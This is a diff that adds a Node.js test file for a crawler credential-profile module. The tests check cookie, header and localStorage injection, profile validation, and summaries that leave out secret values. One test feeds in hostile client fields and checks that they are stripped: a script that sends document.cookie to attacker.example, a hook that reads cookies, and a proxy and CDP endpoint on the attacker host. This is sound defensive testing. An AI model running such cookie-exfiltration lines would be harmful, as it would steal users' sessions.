@@ -0,0 +1,57 @@
+const { test } = require('node:test');
+const assert = require('node:assert/strict');
+const { applyCredentialProfile, toProfileRow, toProfileSummary } = require('./credentials');
+
+const profile = {
+    domain: 'intranet.example.com',
+    name: 'Intranet',
+    cookies: [{ name: 'session', value: 'secret' }],
+    headers: { Authorization: 'Bearer secret' },
+    local_storage: { token: 'secret' },
+    login_script: 'login()',
+    login_wait_for: 'css:.dashboard'
+};
+
+test('a profile is injected into browser_config and its login script runs', () => {
+    const body = applyCredentialProfile({
+        urls: ['https://intranet.example.com/'],
+        browser_config: { headless: true, headers: { 'Accept-Language': 'en' } },
+        crawler_config: { cache_mode: 'bypass' }
+    }, profile);
+
+    assert.deepEqual(body.browser_config.cookies, [{ name: 'session', value: 'secret', domain: 'intranet.example.com', path: '/' }]);
+    assert.deepEqual(body.browser_config.headers, { 'Accept-Language': 'en', Authorization: 'Bearer secret' });
+    assert.deepEqual(body.browser_config.storage_state.origins[0].localStorage, [{ name: 'token', value: 'secret' }]);
+    assert.equal(body.browser_config.headless, true);
+    assert.deepEqual(body.crawler_config, { cache_mode: 'bypass', js_code: ['login()'], wait_for: 'css:.dashboard' });
+});
+
+test("the client's scripts, hooks and browser overrides are dropped next to a profile", () => {
+    const body = applyCredentialProfile({
+        urls: ['https://intranet.example.com/'],
+        hooks: { code: { before_return_html: 'async (page) => page.evaluate(() => document.cookie)' } },
+        browser_config: { cdp_url: 'ws://attacker.example/', proxy_config: { server: 'http://attacker.example:8080' }, extra_args: ['--remote-debugging-port=9222'] },
+        crawler_config: { js_code: 'fetch("https://attacker.example/?c=" + document.cookie)', c4a_script: 'EVAL `1`', wait_for: 'js:() => true', session_id: 's1', word_count_threshold: 5 }
+    }, { ...profile, login_script: null, login_wait_for: null });
+
+    assert.equal('hooks' in body, false);
+    assert.deepEqual(Object.keys(body.browser_config).sort(), ['cookies', 'headers', 'storage_state']);
+    assert.deepEqual(body.crawler_config, { word_count_threshold: 5 });
+    assert.deepEqual(body.urls, ['https://intranet.example.com/']);
+});
+
+test('profile rows are validated and summaries never carry values', () => {
+    assert.equal(toProfileRow('example.com', { name: ' ' }).error, 'name is required');
+    assert.match(toProfileRow('example.com', { name: 'x', cookies: [{ name: 'a' }] }).error, /cookies/);
+    assert.match(toProfileRow('example.com', { name: 'x', headers: { a: 1 } }).error, /headers/);
+
+    const { row } = toProfileRow('example.com', { name: ' Site ', cookies: [{ name: 'a', value: 'b' }], loginScript: '  ' });
+    assert.equal(row.name, 'Site');
+    assert.equal(row.login_script, null);
+
+    const summary = toProfileSummary(profile);
+    assert.deepEqual(summary.cookieNames, ['session']);
+    assert.deepEqual(summary.headerNames, ['Authorization']);
+    assert.deepEqual(summary.localStorageKeys, ['token']);
+    assert.equal(JSON.stringify(summary).includes('secret'), false);
+});